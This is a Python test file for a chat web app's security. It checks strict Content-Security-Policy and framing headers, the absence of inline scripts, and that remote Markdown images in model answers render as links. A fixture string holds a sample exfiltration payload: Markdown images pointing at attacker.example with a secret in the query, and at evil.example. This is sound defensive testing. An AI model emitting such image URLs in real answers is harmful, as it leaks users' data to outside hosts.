"""3. Headers: a strict CSP, no framing, nosniff, no referrer; remote images in model Markdown become links."""

from __future__ import annotations

import re

from bs4 import BeautifulSoup

from sidespin.web.page import render_markdown
from tests.conftest import in_process
from tests.live_page import page_of
from tests.scripted import ScriptedBackend
from tests.security.conftest import app_request
from tests.test_server import stream_events, turn_id

EXFILTRATING = "Here you go ![chart](https://attacker.example/c.png?secret=abc) and ![x](//evil.example/p.gif)"


def test_every_response_carries_the_strict_headers(echo_model, data_dir):
    with in_process(echo_model, data_dir) as client:
        for method, path in [("GET", "/c/nope"), ("GET", "/health"), ("GET", "/static/app.js"), ("GET", "/missing"),
                             ("POST", "/mcp-tool-executor"), ("GET", "/")]:
            _, headers, _ = app_request(client, method, path, b"{}" if method == "POST" else None)
            csp = headers["content-security-policy"]
            for rule in ("default-src 'self'", "script-src 'self'", "img-src 'self' data:", "media-src data:",
                         "frame-ancestors 'none'"):
                assert rule in csp, (path, csp)
            assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
            assert headers["x-frame-options"] == "DENY"
            assert headers["x-content-type-options"] == "nosniff"
            assert headers["referrer-policy"] == "same-origin"


def test_the_page_has_no_inline_script_and_no_inline_handler(echo_model, data_dir):
    with in_process(echo_model, data_dir) as client:
        _, headers, _ = app_request(client, "GET", "/")
        status, _, body = app_request(client, "GET", headers["location"])
        assert status == 200
    soup = BeautifulSoup(body, "html.parser")
    assert all(script.get("src", "").startswith("/static/") and not script.string for script in soup("script"))
    for element in soup.find_all(True):
        bad = [name for name in element.attrs if name.startswith("on") or name.startswith("hx-on")]
        assert not bad, (element.name, bad)
        assert "style" not in element.attrs
    config = soup.find("meta", attrs={"name": "htmx-config"})["content"]
    assert '"allowEval":false' in config and '"includeIndicatorStyles":false' in config


def test_markdown_images_in_model_output_are_links_never_fetched():
    html = str(render_markdown(EXFILTRATING))
    assert "<img" not in html
    assert 'href="https://attacker.example/c.png?secret=abc"' in html and "🖼 chart" in html


def test_a_model_answer_with_a_remote_image_reaches_the_page_as_a_link(data_dir):
    with in_process(ScriptedBackend([[EXFILTRATING]] * 3), data_dir) as client:
        cid = str(client.get("/").url).rsplit("/", 1)[1]
        tid = turn_id(client.post("/send", data={"cid": cid, "msg": "show me"}).text)
        shown = page_of(stream_events(client, tid)).html()
        reloaded = client.get(f"/c/{cid}").text
    for html in (shown, reloaded):
        assert "attacker.example" in html and not re.search(r"<img[^>]+attacker", html)
